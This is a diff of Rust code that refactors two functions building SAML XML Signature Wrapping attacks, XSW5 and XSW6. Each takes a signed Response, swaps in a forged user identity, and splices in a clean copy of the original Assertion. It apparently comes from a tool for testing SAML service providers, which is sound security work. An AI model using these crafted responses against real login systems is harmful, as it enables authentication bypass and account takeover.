@@ -97,31 +97,33 @@ pub fn xsw4(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
 /// XSW5: the signed Assertion edited in place (forged identity, new ID, its Signature
 /// kept); a clean signature-less copy with the original ID appended to the Response.
 pub fn xsw5(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
-    let xml = signed(c, signing)?;
-    let a = assertion_range(&xml)?;
-    let original = xml[a.clone()].to_owned();
-    let clean = without_signature(&original)?;
-    let edited = splice::set_root_attribute(
-        &splice::set_name_id(&original, &c.forged)?,
-        "ID",
-        &new_id("A"),
-    )?;
+    let (xml, a, clean, edited) = edited_in_place(c, signing)?;
     let replaced = splice::replace(&xml, a, &edited);
     let at = splice::before_end_tag(&replaced)?;
     Ok(Crafted::of(splice::insert(&replaced, at, &clean)))
 }
 
-/// XSW6: as XSW5, the clean copy inside the forged Assertion's Signature.
-pub fn xsw6(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
+/// The signed Response, its Assertion's range, a clean signature-less copy of that
+/// Assertion, and the Assertion edited in place (forged identity, new ID, Signature kept).
+fn edited_in_place(
+    c: &Ctx<'_>,
+    signing: Signing,
+) -> Result<(String, std::ops::Range<usize>, String, String), CraftError> {
     let xml = signed(c, signing)?;
     let a = assertion_range(&xml)?;
-    let original = xml[a.clone()].to_owned();
-    let clean = without_signature(&original)?;
+    let original = &xml[a.clone()];
+    let clean = without_signature(original)?;
     let edited = splice::set_root_attribute(
-        &splice::set_name_id(&original, &c.forged)?,
+        &splice::set_name_id(original, &c.forged)?,
         "ID",
         &new_id("A"),
     )?;
+    Ok((xml, a, clean, edited))
+}
+
+/// XSW6: as XSW5, the clean copy inside the forged Assertion's Signature.
+pub fn xsw6(c: &Ctx<'_>, signing: Signing) -> Result<Crafted, CraftError> {
+    let (xml, a, clean, edited) = edited_in_place(c, signing)?;
     let sig = splice::range(&edited, NS_DSIG, "Signature", None)?;
     let sig_text = &edited[sig.clone()];
     let at = splice::before_end_tag(sig_text)?;
